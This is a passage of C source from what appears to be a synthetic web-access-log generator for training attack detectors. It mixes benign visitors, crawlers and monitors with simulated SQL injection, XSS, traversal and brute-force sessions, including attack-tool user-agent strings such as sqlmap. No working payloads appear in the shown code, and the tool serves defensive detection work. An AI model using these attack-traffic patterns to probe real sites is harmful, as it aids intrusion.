            s.form = (int)vg_rng_below(&g->rng, (uint32_t)N(forms));
            s.pace = chance(g, 0.5) ? 0.03 : 0.3;
            break;
        case K_SQLI:
            s.ua = chance(g, 0.4) ? "sqlmap/1.7.2#stable (https://sqlmap.org)" : PICK(g, browsers);
            s.remaining = 8 + (int)vg_rng_below(&g->rng, 40);
            break;
        case K_XSS:
        case K_TRAVERSAL:
            s.ua = chance(g, 0.2) ? "python-requests/2.31.0" : PICK(g, browsers);
            s.remaining = 8 + (int)vg_rng_below(&g->rng, 40);
            break;
        default:
            s.ua = chance(g, 0.6) ? PICK(g, brute_agents) : PICK(g, browsers);
            s.remaining = 30 + (int)vg_rng_below(&g->rng, 300);
            s.pace = chance(g, 0.5) ? uni(g, 0.01, 0.1) : uni(g, 0.3, 1.5);
            /* The answer to a wrong password, drawn apart from the form (an
             * earlier draw tied 200 to two of the four paths). */
            s.soft = chance(g, 0.5);
            break;
        }
    } else {
        unsigned r = vg_rng_below(&g->rng, 100);
        s.kind = r < 90 ? K_BROWSE : r < 96 ? K_CRAWLER : K_MONITOR;
        if (s.kind == K_BROWSE) {
            /* Returning visitors keep their address and browser. */
            size_t c = vg_rng_below(&g->rng, (uint32_t)g->n_clients);
            memcpy(s.ip, g->client_ip[c], sizeof s.ip);
            s.ua = browsers[g->client_ua[c]];
            s.remaining = 1 + (int)vg_rng_below(&g->rng, 6);
            s.pace = 25;  /* mean seconds reading a page */
            if (chance(g, 0.15)) {
                /* Skimmers: clicking through listings, back and forward,
                 * opening tabs, a page every second or two for a while, as
                 * fast as some tools (the real shop's visitors did). */
                s.pace = uni(g, 1, 4);
                s.remaining = 3 + (int)vg_rng_below(&g->rng, 25);
            } else if (chance(g, 0.06)) {
                /* Fast clients behind one address: several tabs at once, a
                 * page's script fetching fragments, an office or a mobile
                 * carrier's NAT: a page every 0.1-1 s for minutes, with
                 * its assets. Without them every benign
                 * client stayed under about 10 requests in 10 s, so the
                 * rate alone told an attack: a real log's people loading
                 * pages faster than that were 9% false alarms. Their pages
                 * are the site's own with plain values, a few scripts and
                 * their shared assets revisited (distinct paths at that
                 * rate are a crawler's), so a payload or a 404 burst stays
                 * the sign, not the rate. */
                s.pace = uni(g, 0.1, 1.0);
                s.remaining = 20 + (int)vg_rng_below(&g->rng, 80);
                s.fast = 1;
                random_ip(g, s.ip, sizeof s.ip);  /* its own address: not a returning visitor's */
            }
            snprintf(s.page, sizeof s.page, "/");
        } else if (s.kind == K_CRAWLER) {
            random_ip(g, s.ip, sizeof s.ip);
            s.ua = PICK(g, crawlers);
            s.remaining = 10 + (int)vg_rng_below(&g->rng, 60);
        } else {
            random_ip(g, s.ip, sizeof s.ip);
            s.ua = PICK(g, monitors);
            s.target = chance(g, 0.5);
            s.remaining = 10 + (int)vg_rng_below(&g->rng, 30);
        }
    }
    if (g->n < MAX_ACTIVE - 1) heap_push(g, &s);
}

static vg_status weblog_write(FILE *out, const vg_synth_params *p)
{
    if (!out) return vg_fail(VG_ERR_INVALID, "synth weblog: no output");
    if (!(p->attack_fraction >= 0 && p->attack_fraction < 1))
        return vg_fail(VG_ERR_INVALID, "synth weblog: attack fraction %g is not in [0, 1)", p->attack_fraction);
    gen *g = vg_calloc(1, sizeof *g);
    if (!g) return vg_fail(VG_ERR_NOMEM, "out of memory");
    vg_rng_seed(&g->rng, p->seed, 0x776562);
    g->out = out, g->truth = p->truth, g->limit = p->events, g->af = p->attack_fraction, g->start = p->start_time;
    g->n_clients = VG_MAX((size_t)50, p->events / 30);
    g->client_ip = vg_malloc(g->n_clients * sizeof *g->client_ip);
    g->client_ua = vg_malloc(g->n_clients);
    if (!g->client_ip || !g->client_ua) {
        vg_free(g->client_ip), vg_free(g->client_ua), vg_free(g);
        return vg_fail(VG_ERR_NOMEM, "out of memory");
    }
    for (size_t i = 0; i < g->n_clients; i++) {
        random_ip(g, g->client_ip[i], sizeof g->client_ip[i]);
        g->client_ua[i] = (uint8_t)vg_rng_below(&g->rng, (uint32_t)N(browsers));
    }
    double next_arrival = p->start_time;
    while (g->written < g->limit) {
        if (g->n == 0 || next_arrival <= g->heap[0].next) {
            start_session(g, next_arrival);
            next_arrival += expo(g, 1.0 / arrival_rate(g, next_arrival));
            continue;
        }
        session *s = &g->heap[0];
        if (!step(g, s)) g->heap[0] = g->heap[--g->n];
        heap_sift(g);
    }
    vg_status st = ferror(out) || (g->truth && ferror(g->truth)) ? vg_fail(VG_ERR_IO, "synth weblog: write failed")
                                                                  : VG_OK;
    vg_free(g->client_ip), vg_free(g->client_ua), vg_free(g);
    return st;
}

const vg_synth_generator vg_synth_weblog = {
    .format = &vg_format_weblog,
    .summary = "combined-format web access log: visitors with page assets (some fast), crawlers, monitors, normal "
               "404s; attacks: scanner (some against a soft-404 site), sqli, xss, traversal, cmdi, ssti, "
               "crlf, jndi, webscan (crawl, then every parameter mutated), bruteforce (label them with "
               "--truth and train with --labels)",
    .write = weblog_write,
};
